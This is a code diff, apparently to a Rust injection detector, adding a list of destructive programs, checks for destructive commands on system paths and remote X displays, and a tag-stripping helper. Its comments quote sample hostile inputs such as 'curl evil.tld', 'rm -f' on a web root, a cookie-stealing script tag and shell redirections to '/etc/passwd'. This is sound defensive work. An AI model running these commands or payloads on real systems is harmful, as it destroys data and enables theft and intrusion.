@@ -166,6 +166,22 @@ const SPAN_FILE_READERS: &[&[u8]] = &[
 /// Programs that open a connection to the host or URL named as their operand.
 const NETWORK_CALLS: &[&[u8]] = &[b"curl", b"wget", b"nc", b"ncat", b"netcat", b"socat"];
 
+/// Programs that delete, overwrite or take over the file named as their operand.
+const DESTRUCTIVE: &[&[u8]] = &[
+    b"rm",
+    b"rmdir",
+    b"unlink",
+    b"shred",
+    b"truncate",
+    b"wipefs",
+    b"dd",
+    b"mkfs",
+    b"chmod",
+    b"chown",
+    b"chgrp",
+    b"chattr",
+];
+
 /// ``hello `whoami` world``, ``run `cat config.php` lol``, ``see `curl evil.tld` ``: a code
 /// span between words of prose that holds a probe an injection sends: a reconnaissance
 /// command that runs bare (`whoami`, `id`, `uname`), a program that prints a secrets file
@@ -219,6 +235,47 @@ pub(super) fn span_runs_probe(
         || (named(SPAN_FILE_READERS)
             && (options::application_secret(operand) || options::system_secret(operand)))
         || (named(NETWORK_CALLS) && operand.contains(&b'.'))
+        // ``hello `rm -f /var/www/html/index.html` world``: a program that deletes or takes
+        // over a file of the system, named by its absolute path, is no snippet a help text
+        // shows in passing (a scratch file after "run" or "use" still is)
+        || (named(DESTRUCTIVE)
+            && system_path_operand(rest, plus)
+            && !(instructed
+                && rest
+                    .split(|&b| is_blank(b, plus))
+                    .take(16)
+                    .filter_map(operand_path)
+                    .all(super::classify::in_scratch_dir)))
+        // ``see `xterm -display evil.example.org:1` ``: a window sent to another host
+        || super::arguments::remote_display(rest, plus)
+}
+
+/// An operand of `rest` (a command's arguments) that is an absolute path below a directory
+/// (`/var/www/html/index.html`, `of=/dev/sda`), or `/` itself.
+fn system_path_operand(rest: &[u8], plus: bool) -> bool {
+    rest.split(|&b| is_blank(b, plus))
+        .take(16)
+        .filter_map(operand_path)
+        .any(|p| p == b"/" || p.len() > 1)
+}
+
+/// The absolute path a token names: itself (`/etc/x`, `'/etc/x'`) or an option's value
+/// (`of=/dev/sda`, `--target=/srv`); options and relative names give `None`.
+fn operand_path(t: &[u8]) -> Option<&[u8]> {
+    let t = t
+        .strip_prefix(b"'")
+        .or_else(|| t.strip_prefix(b"\""))
+        .unwrap_or(t);
+    let t = t
+        .strip_suffix(b"'")
+        .or_else(|| t.strip_suffix(b"\""))
+        .unwrap_or(t);
+    let p = match memchr::memchr(b'=', t) {
+        Some(e) => &t[e + 1..],
+        None if t.first() == Some(&b'-') => return None,
+        None => t,
+    };
+    (p.first() == Some(&b'/') && p.get(1) != Some(&b'/')).then_some(p)
 }
 
 /// ``the `id` field``, ``its `id` is``, ``pass an `id` param``: developers' prose names a
@@ -394,4 +451,124 @@ pub(super) fn code_span_in_question(v: &[u8]) -> bool {
         && words(after) >= 1
         && words(before) + words(after) >= 3
         && !v[open + 1..close].contains(&b'\n')
+}
+
+/// Bytes of a value [`without_element_tags`] reads; a longer value is judged as sent.
+const MAX_MARKED: usize = 8192;
+/// Tags [`without_element_tags`] reads.
+const MAX_TAGS: usize = 64;
+/// Longest tag [`without_element_tags`] reads.
+const MAX_TAG: usize = 512;
+
+/// `test<SCRIPT>alert(document.cookie)</SCRIPT>`, `x<?xml version="1.0"?><svg xmlns="…">`:
+/// when `v` holds a start tag of a known HTML, SVG or MathML element
+/// ([`crate::xss::element_name`]), `v` with each of its tags (of any element name, `xsl:…`
+/// too, and processing instructions) replaced by blanks; `None` otherwise. In markup `<` and
+/// `>` build tags, not redirections, and attributes (`xmlns="http://…"`) are no arguments of
+/// a command: what a page runs from them is the XSS detector's to judge. A tag holding shell
+/// syntax (`$`, a backtick, `|`, a line break, a `;` that ends no character reference or
+/// style declaration) is left as it is, and so is any other `<` and `>` (`;cat</etc/passwd`,
+/// `|sh>/tmp/x`, `<(curl x)`).
+pub(super) fn without_element_tags(v: &[u8]) -> Option<Vec<u8>> {
+    if v.len() > MAX_MARKED {
+        return None;
+    }
+    let mut out: Option<Vec<u8>> = None;
+    let mut known_starts = 0;
+    let mut tags = 0;
+    let mut i = 0;
+    // (each turn moves past a `<`: the loop ends with the value)
+    while let Some(lt) = memchr::memchr(b'<', &v[i..]).map(|p| i + p) {
+        let Some((len, known_start)) = markup_tag(&v[lt..]) else {
+            i = lt + 1;
+            continue;
+        };
+        // A value of more tags is judged as sent.
+        tags += 1;
+        if tags > MAX_TAGS {
+            return None;
+        }
+        known_starts += usize::from(known_start);
+        let o = out.get_or_insert_with(|| v.to_vec());
+        o[lt..lt + len].fill(b' ');
+        i = lt + len;
+    }
+    out.filter(|_| known_starts > 0)
+}
+
+/// The length of the tag opening `t` (`t[0] == '<'`), a start or end tag or a processing
+/// instruction closed by `>` within [`MAX_TAG`] bytes and free of shell syntax, and whether
+/// it is a start tag of a known element ([`crate::xss::element_name`]).
+fn markup_tag(t: &[u8]) -> Option<(usize, bool)> {
+    let t = &t[..t.len().min(MAX_TAG)];
+    if t.get(1) == Some(&b'?') {
+        if !t.get(2).is_some_and(u8::is_ascii_alphabetic) {
+            return None;
+        }
+        let close = memchr::memmem::find(t, b"?>")?;
+        return shell_free(&t[..close]).then_some((close + 2, false));
+    }
+    let end_tag = t.get(1) == Some(&b'/');
+    let name_at = 1 + usize::from(end_tag);
+    let name_len = t[name_at..]
+        .iter()
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b':'))
+        .count();
+    let name = &t[name_at..name_at + name_len];
+    if !name.first().is_some_and(u8::is_ascii_alphabetic) {
+        return None;
+    }
+    let known_start = !end_tag && crate::xss::element_name(name);
+    let after = name_at + name_len;
+    match t.get(after) {
+        Some(b'>') => return Some((after + 1, known_start)),
+        Some(b' ' | b'\t' | b'/') if !end_tag => {}
+        _ => return None,
+    }
+    // the attributes, to the `>` outside quotes
+    let mut quote = None;
+    for (k, &b) in t.iter().enumerate().skip(after) {
+        match (quote, b) {
+            (None, b'"' | b'\'') => quote = Some(b),
+            (Some(q), _) if b == q => quote = None,
+            (None, b'>') => return shell_free(&t[..k]).then_some((k + 1, known_start)),
+            (None, b'<') => return None,
+            _ => {}
+        }
+    }
+    None
+}
+
+/// Whether the text of a tag holds no shell syntax: no `$`, backtick, `|`, line break, and
+/// a `;` only ending a character reference (`&amp;`) or a style declaration (`color:red;`).
+fn shell_free(t: &[u8]) -> bool {
+    !t.iter()
+        .any(|&b| matches!(b, b'$' | b'`' | b'|' | b'\n' | b'\r' | b'\\'))
+        && memchr::memchr_iter(b';', t).all(|p| {
+            let before = &t[..p];
+            let reference = before.iter().rposition(|&b| b == b'&').is_some_and(|a| {
+                p - a > 1
+                    && p - a <= 10
+                    && before[a + 1..]
+                        .iter()
+                        .all(|&b| b.is_ascii_alphanumeric() || b == b'#')
+            });
+            // `color:red;` before a quote, a blank or the next `name:`
+            let declared = before
+                .iter()
+                .rposition(|&b| matches!(b, b'"' | b'\'' | b';' | b' '))
+                .is_some_and(|s| before[s + 1..].contains(&b':'));
+            let next = &t[p + 1..];
+            let property = next
+                .iter()
+                .take(32)
+                .take_while(|&&b| b.is_ascii_lowercase() || b == b'-')
+                .count();
+            let declaration = declared
+                && (next
+                    .first()
+                    .is_none_or(|&b| matches!(b, b'"' | b'\'' | b' '))
+                    || (property > 0 && next.get(property) == Some(&b':')));
+            reference || declaration
+        })
 }
